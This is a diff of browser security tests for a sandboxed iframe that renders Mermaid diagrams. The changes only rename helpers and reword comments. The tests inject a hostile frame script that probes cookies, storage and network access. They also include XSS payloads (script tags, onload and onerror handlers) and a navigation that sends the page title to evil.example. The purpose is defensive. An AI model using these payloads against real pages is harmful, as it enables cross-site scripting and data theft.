@@ -11,8 +11,8 @@ const fixture = createWorkspaceFixture();
 
 const diagram = "```mermaid\ngraph LR\n  A --> B\n```";
 
-/** Puts a script in the place of the frame's own, behind the real page of the frame with its real policy; then has a diagram drawn. */
-async function takeOver(script: string, expectedProblems = /(?!)/) {
+/** Replaces the frame's script, keeping the frame's real page and policy; then opens an answer with a diagram. */
+async function replaceFrameScript(script: string, expectedProblems = /(?!)/) {
   const { page } = await fixture.openSignedIn({ expectedProblems });
   const ran = await recordExecutedScripts(page);
   await page.route(/\/drawing\/assets\/index-[^/]*\.js$/, (route) =>
@@ -28,8 +28,8 @@ async function takeOver(script: string, expectedProblems = /(?!)/) {
   return { page, ran, answer: lastAnswer(page) };
 }
 
-/** A frame that answers every question with what `reply` makes of its id. */
-const answering = (reply: string) => `
+/** A frame script that answers every request with what `reply` makes of its id. */
+const frameScript = (reply: string) => `
   addEventListener("message", ({ ports: [port] }) => {
     port.onmessage = async ({ data: { id } }) => { for (const answer of await (${reply})(id)) port.postMessage(answer); };
   });
@@ -38,14 +38,14 @@ const answering = (reply: string) => `
 
 const svg = (inside: string) =>
   `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 50" width="100" height="50">${inside}</svg>`;
-const drawn = (inside: string, title = "") =>
+const drawnMessage = (inside: string, title = "") =>
   `{ id, svg: ${JSON.stringify(svg(inside))}, title: ${JSON.stringify(title)}, description: "", isPartial: false }`;
 
-const framesOf = (page: Page) => page.locator("iframe");
+const frames = (page: Page) => page.locator("iframe");
 
 test("a compromised frame reaches neither cookies, storage, the page, the network nor another address", async () => {
-  const { page, ran, answer } = await takeOver(
-    answering(`async (id) => {
+  const { page, ran, answer } = await replaceFrameScript(
+    frameScript(`async (id) => {
       const got = [];
       const attempt = async (name, act) => {
         try { const value = await Promise.race([act(), new Promise((_, no) => setTimeout(no, 1500))]); if (value) got.push(name); } catch {}
@@ -72,13 +72,13 @@ test("a compromised frame reaches neither cookies, storage, the page, the networ
       await attempt("service worker", () => navigator.serviceWorker.register("/drawing/assets/x.js"));
       return [{ id, svg: ${JSON.stringify(svg("<g/>"))}, title: "reached: " + got.join(), description: "", isPartial: false }];
     }`),
-    // In the frame that it fills itself.
+    // In the nested frame that it created.
     /^Executing inline script violates/,
   );
   await expectEventually(() => answer.getByRole("img", { name: "reached" }).getAttribute("alt")).toBe(
     "Diagram: reached: ",
   );
-  // It may ask for a window and fill a frame of its own: nothing comes of either.
+  // It may try to open a window and to create a nested frame: both have no effect.
   expect(ran.filter((what) => what !== "open" && what !== "frame about:srcdoc")).toEqual([]);
   expect(page.context().pages()).toHaveLength(1);
   expect(page.url()).toMatch(new RegExp(`^${fixture.url}/`));
@@ -86,7 +86,7 @@ test("a compromised frame reaches neither cookies, storage, the page, the networ
 });
 
 test("a frame that tries to navigate fails, and the page stays", async () => {
-  const { page, answer } = await takeOver(
+  const { page, answer } = await replaceFrameScript(
     `addEventListener("message", () => { location.href = "https://evil.example/?" + document.title; });
      parent.postMessage("drawing-frame-ready", "*");`,
     /^Framing 'https:\/\/evil\.example\/' violates/,
@@ -97,26 +97,26 @@ test("a frame that tries to navigate fails, and the page stays", async () => {
 });
 
 test.each([
-  ["a script in it", drawn("<script>alert(1)</script><g onload='alert(1)'/>"), "diagram"],
-  ["styles of elsewhere", drawn("<style>@import '//evil.example/x.css';</style>"), "source"],
+  ["a script in it", drawnMessage("<script>alert(1)</script><g onload='alert(1)'/>"), "diagram"],
+  ["styles of elsewhere", drawnMessage("<style>@import '//evil.example/x.css';</style>"), "source"],
   [
     "a page in its place",
     `{ id, svg: "<html><body onload=alert(1)>", title: "", description: "", isPartial: false }`,
     "source",
   ],
-  ["markup as its title", drawn("<g/>", "<img src=//evil.example/x onerror=alert(1)>"), "diagram"],
+  ["markup as its title", drawnMessage("<g/>", "<img src=//evil.example/x onerror=alert(1)>"), "diagram"],
   [
     "another's number before its own",
-    `{ id: 999, svg: "<svg/>", title: "", description: "", isPartial: false }, ${drawn("<g/>")}`,
+    `{ id: 999, svg: "<svg/>", title: "", description: "", isPartial: false }, ${drawnMessage("<g/>")}`,
     "diagram",
   ],
   [
     "other things before it",
-    `null, "x", 1, [], { id }, { id, svg: 3 }, { id, problem: "x" }, ${drawn("<g/>")}`,
+    `null, "x", 1, [], { id }, { id, svg: 3 }, { id, problem: "x" }, ${drawnMessage("<g/>")}`,
     "diagram",
   ],
 ])("a picture with %s is harmless or not shown", async (_, reply, shown) => {
-  const { page, ran, answer } = await takeOver(answering(`(id) => [${reply}]`));
+  const { page, ran, answer } = await replaceFrameScript(frameScript(`(id) => [${reply}]`));
   if (shown === "source") {
     await expectVisible(answer, "This diagram is not safe to show, so only its source is shown.");
     await answer.getByRole("group", { name: "Code, Mermaid" }).waitFor();
@@ -127,7 +127,7 @@ test.each([
     ).toBe(true);
     const address = (await image.getAttribute("src")) ?? "";
     expect(address).toMatch(new RegExp(`^blob:${fixture.url}/`));
-    // What is saved is opened as a page, perhaps.
+    // A saved file may be opened as a page.
     await answer.getByRole("button", { name: "Download" }).click();
     const [download] = await Promise.all([
       page.waitForEvent("download"),
@@ -145,7 +145,7 @@ test("messages of other windows are ignored, and a frame that never answers lose
   await openNewConversation(page, fixture.url);
   await page.evaluate(() => {
     const given = window.postMessage.bind(window);
-    // As fast as the frame itself, and before it.
+    // As fast as the frame itself, and ahead of it.
     setInterval(() => given("drawing-frame-ready", "*"), 1);
     const heard: unknown[] = [];
     Object.assign(window, { heard });
@@ -157,21 +157,21 @@ test("messages of other windows are ignored, and a frame that never answers lose
     .getByRole("img", { name: /^Diagram/ })
     .waitFor();
   expect(await page.evaluate(() => Reflect.get(window, "heard"))).toEqual([]);
-  expect(await framesOf(page).evaluateAll((all) => all.map((frame) => frame.getAttribute("sandbox")))).toEqual([
+  expect(await frames(page).evaluateAll((all) => all.map((frame) => frame.getAttribute("sandbox")))).toEqual([
     "allow-scripts",
   ]);
 });
 
 test("a frame that repeatedly reports that it has started gets no extra time", { timeout: 60_000 }, async () => {
-  const { page, answer } = await takeOver(
-    answering(
+  const { page, answer } = await replaceFrameScript(
+    frameScript(
       `(id) => { setInterval(() => port.postMessage({ id, isStarted: true }), 500); return [{ id, isStarted: true }]; }`,
     ),
   );
   await answer
     .getByText("This diagram takes too long to draw, so only its source is shown.")
     .waitFor({ timeout: 30_000 });
-  expect(await framesOf(page).count()).toBe(0);
+  expect(await frames(page).count()).toBe(0);
 });
 
 test("only our own page may embed the frame's page, and its files are public", async () => {
